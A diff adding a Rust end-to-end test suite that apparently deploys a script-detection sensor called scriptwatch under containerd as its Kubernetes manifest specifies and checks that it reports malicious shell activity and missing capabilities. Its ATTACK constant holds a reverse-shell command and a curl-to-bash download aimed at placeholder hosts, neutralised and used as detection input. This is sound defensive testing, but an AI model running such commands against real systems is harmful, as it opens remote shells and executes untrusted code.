@@ -1,0 +1,261 @@
+//! The image of `cargo xtask package` as the chart deploys it: in a container of its own under containerd, with the
+//! mounts, capabilities and environment that the manifest gives it and no others.
+
+use std::{
+    collections::BTreeMap,
+    fs,
+    path::{Path, PathBuf},
+    time::{Duration, Instant},
+};
+
+use e2e::{
+    containerd::{Containerd, Plan, Pod},
+    image::Image,
+    node::{self, Daemon},
+};
+use serde_json::Value;
+use tempfile::TempDir;
+
+const IMAGE: &str = "docker.io/library/scriptwatch:0.1.0";
+const SHELL: &str = "docker.io/local/shell:1";
+/// Malicious by any model, and inert: `:` runs instead.
+const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
+
+/// The objects of the plain manifests, by kind and name.
+fn manifests() -> BTreeMap<String, Value> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/kubernetes/scriptwatch.yaml");
+    let text = fs::read_to_string(path).expect("the manifests");
+    text.split("\n---\n")
+        .map(|document| serde_norway::from_str::<Value>(document).expect("YAML"))
+        .filter(|object| !object.is_null())
+        .map(|object| {
+            (
+                format!(
+                    "{} {}",
+                    object["kind"].as_str().unwrap(),
+                    object["metadata"]["name"].as_str().unwrap()
+                ),
+                object,
+            )
+        })
+        .collect()
+}
+
+/// A cluster of one node: containerd with the packaged image, and a collector.
+struct Cluster {
+    dir: TempDir,
+    containerd: Containerd,
+    collector: Daemon,
+    collector_url: String,
+    daemon_set: Value,
+    config: String,
+}
+
+impl Cluster {
+    fn start() -> Self {
+        let shell = Image::new(SHELL)
+            .program("/bin/bash")
+            .and_then(|image| image.program("/bin/sleep"))
+            .expect("a program")
+            .private("/opt/own/bash", Path::new("/bin/bash"), 1234);
+        let shell = shell.entrypoint(&["/bin/sleep", "86400"]);
+        let containerd = Containerd::start(&[shell]).expect("containerd");
+        let image = std::env::var_os("SCRIPTWATCH_IMAGE")
+            .expect("SCRIPTWATCH_IMAGE: run this with `cargo xtask test`");
+        containerd.import_tar(&PathBuf::from(image)).expect("the image");
+        let dir = tempfile::tempdir().expect("a directory");
+        let (collector, port) = node::collector(dir.path(), 0).expect("a collector");
+        let manifests = manifests();
+        Self {
+            dir,
+            containerd,
+            collector,
+            collector_url: format!("http://127.0.0.1:{port}"),
+            daemon_set: manifests["DaemonSet scriptwatch-sensor"].clone(),
+            config: manifests["ConfigMap scriptwatch-sensor"]["data"].to_string(),
+        }
+    }
+
+    /// The sensor's pod as the DaemonSet has it, with these capabilities; only what a cluster would fill in differs.
+    fn sensor(&self, name: &str, capabilities: &[&str]) -> (Pod, String) {
+        let pod_spec = &self.daemon_set["spec"]["template"]["spec"];
+        let container = &pod_spec["containers"][0];
+        let text = |value: &Value| value.as_str().expect("text").to_owned();
+        let list = |value: &Value| value.as_array().expect("a list").clone();
+        // The config map as a kubelet mounts it.
+        let config = self.dir.path().join(name);
+        fs::create_dir(&config).expect("a directory");
+        let data: BTreeMap<String, String> = serde_json::from_str(&self.config).expect("config");
+        for (file, content) in data {
+            let here = content
+                .replace("http://scriptwatch-collector.scriptwatch.svc:7600", &self.collector_url)
+                .replace("0.0.0.0:7601", "127.0.0.1:0");
+            fs::write(config.join(file), here).expect("config");
+        }
+        let host_path = |volume: &str| {
+            let volumes = list(&pod_spec["volumes"]);
+            let found = volumes.iter().find(|v| v["name"] == volume).expect("a volume").clone();
+            match found["hostPath"]["path"].as_str() {
+                // This containerd's state is elsewhere.
+                Some("/run/containerd") => self.containerd.state().display().to_string(),
+                Some(path) => path.to_owned(),
+                None => config.display().to_string(),
+            }
+        };
+        let mounts: Vec<(String, String)> = list(&container["volumeMounts"])
+            .iter()
+            .map(|mount| {
+                assert_eq!(mount["readOnly"], true, "{mount}");
+                (host_path(mount["name"].as_str().expect("a name")), text(&mount["mountPath"]))
+            })
+            .collect();
+        let mounts: Vec<(&str, &str)> = mounts.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+        let env: Vec<(String, String)> = list(&container["env"])
+            .iter()
+            .map(|entry| {
+                let value = entry["value"].as_str().unwrap_or("node-1").to_owned();
+                (text(&entry["name"]), value)
+            })
+            .collect();
+        let env: Vec<(&str, &str)> = env.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+        let command: Vec<String> =
+            list(&container["command"]).iter().chain(&list(&container["args"])).map(text).collect();
+        let command: Vec<&str> = command.iter().map(String::as_str).collect();
+        let security = &container["securityContext"];
+        assert_eq!(security["privileged"], false);
+        assert_eq!(security["capabilities"]["drop"][0], "ALL");
+        assert_eq!(security["seccompProfile"]["type"], "RuntimeDefault");
+        let pod = self.containerd.host_pid_pod("scriptwatch", name).expect("a pod");
+        let plan = Plan {
+            name: "sensor",
+            image: IMAGE,
+            command: &command,
+            env: &env,
+            mounts: &mounts,
+            capabilities: Some(capabilities),
+            hardened: security["readOnlyRootFilesystem"] == true
+                && security["allowPrivilegeEscalation"] == false,
+            host_pid: pod_spec["hostPID"] == true,
+            ..Plan::default()
+        };
+        assert!(plan.hardened && plan.host_pid);
+        let id = self.containerd.run(&pod, &plan).expect("the sensor");
+        (pod, id)
+    }
+
+    fn capabilities(&self) -> Vec<String> {
+        let container = &self.daemon_set["spec"]["template"]["spec"]["containers"][0];
+        let add = container["securityContext"]["capabilities"]["add"].as_array().expect("capabilities");
+        add.iter().map(|c| c.as_str().expect("a name").to_owned()).collect()
+    }
+
+    /// Waits until the sensor's pod says this.
+    fn wait_for_words(&self, pod: &Pod, words: &str) -> String {
+        let start = Instant::now();
+        loop {
+            let log = self.containerd.output(pod, "sensor");
+            if log.contains(words) {
+                return log;
+            }
+            assert!(start.elapsed() < Duration::from_secs(30), "{words:?} is not said: {log}");
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+
+    fn wait_for_findings(&self, sensor: &Pod, count: usize) -> Vec<Value> {
+        let start = Instant::now();
+        loop {
+            let findings = node::findings(self.dir.path()).expect("findings");
+            if findings.len() >= count {
+                return findings;
+            }
+            let log = || self.containerd.output(sensor, "sensor");
+            assert!(
+                start.elapsed() < Duration::from_secs(30),
+                "{} findings and not {count}: {}",
+                findings.len(),
+                log()
+            );
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+}
+
+#[test]
+fn as_the_chart_deploys_it_the_sensor_sees_another_container_of_the_node() {
+    let mut cluster = Cluster::start();
+    let capabilities = cluster.capabilities();
+    let capabilities: Vec<&str> = capabilities.iter().map(String::as_str).collect();
+    let (sensor, id) = cluster.sensor("sensor", &capabilities);
+    cluster.wait_for_words(&sensor, "ready tier=");
+    // Loading is one thing, probes in a shell of a container that only its owner may read another.
+    let pod = cluster.containerd.pod("shop", "web-0").expect("a pod");
+    let script = format!("/bin/sleep 0.3; eval '{ATTACK}'");
+    let command = ["/opt/own/bash", "-c", &script];
+    let plan = Plan { name: "app", image: SHELL, command: &command, user: Some(1234), ..Plan::default() };
+    cluster.containerd.run(&pod, &plan).expect("a container");
+    let findings = cluster.wait_for_findings(&sensor, 2);
+    let of = |origin: &str| {
+        let found = findings.iter().find(|f| f["sourceProperties"]["Script_Origin"] == origin);
+        found.unwrap_or_else(|| panic!("no finding of {origin}: {findings:#?}"))
+    };
+    for finding in [of("command"), of("eval")] {
+        let property = |key: &str| finding["sourceProperties"][key].as_str().unwrap_or_default();
+        assert_eq!(property("Pod_Name"), "web-0");
+        assert_eq!(property("Node_Name"), "node-1");
+        assert!(property("Container_Image_Id").starts_with("sha256:"));
+        let binary = &finding["processes"][0]["binary"];
+        assert_eq!(binary["path"], "/opt/own/bash");
+        let bash = node::sha256(&fs::read("/bin/bash").expect("bash"));
+        assert_eq!(binary["sha256"], bash.as_str(), "its binary could not be read: {finding:#}");
+    }
+    cluster.containerd.stop_container(&id).expect("a stop");
+    let status = cluster.containerd.wait(&id).expect("its end");
+    let log = cluster.containerd.output(&sensor, "sensor");
+    assert_eq!(status.exit_code, 0, "{log}");
+    assert!(log.contains("findings_made=2") && log.contains("findings_stored=2"), "{log}");
+    cluster.collector.stop().expect("a clean end");
+}
+
+#[test]
+fn each_capability_is_missed_by_name() {
+    let cluster = Cluster::start();
+    let all = cluster.capabilities();
+    for missing in &all {
+        let others: Vec<&str> = all.iter().filter(|c| *c != missing).map(String::as_str).collect();
+        let (pod, id) =
+            cluster.sensor(&format!("without-{}", missing.to_lowercase().replace('_', "-")), &others);
+        let status = cluster.containerd.wait(&id).expect("its end");
+        let log = cluster.containerd.output(&pod, "sensor");
+        assert_eq!(status.exit_code, 2, "without {missing}: {log}");
+        // The two that SYS_ADMIN stands for do without it, but for probes in shells.
+        let says = if missing == "SYS_ADMIN" {
+            "needs the capabilities CAP_BPF, CAP_PERFMON:".to_owned()
+        } else {
+            format!("needs the capabilities CAP_{missing}:")
+        };
+        assert!(log.contains(&says), "without {missing}: {log}");
+    }
+    let (pod, id) = cluster.sensor("less", &["BPF", "PERFMON", "SYS_PTRACE", "DAC_READ_SEARCH"]);
+    assert_eq!(cluster.containerd.wait(&id).expect("its end").exit_code, 2);
+    let log = cluster.containerd.output(&pod, "sensor");
+    assert!(log.contains("CAP_SYS_ADMIN: the kernel asks for it to put probes into shells"), "{log}");
+}
+
+#[test]
+fn without_the_nodes_process_ids_the_remedy_is_named() {
+    let cluster = Cluster::start();
+    let pod = cluster.containerd.pod("scriptwatch", "own-pids").expect("a pod");
+    let capabilities = cluster.capabilities();
+    let capabilities: Vec<&str> = capabilities.iter().map(String::as_str).collect();
+    let plan = Plan {
+        name: "sensor",
+        image: IMAGE,
+        command: &["/usr/bin/sensor", "run"],
+        capabilities: Some(&capabilities),
+        ..Plan::default()
+    };
+    let id = cluster.containerd.run(&pod, &plan).expect("the sensor");
+    assert_eq!(cluster.containerd.wait(&id).expect("its end").exit_code, 2);
+    assert!(cluster.containerd.output(&pod, "sensor").contains("hostPID: true"));
+}
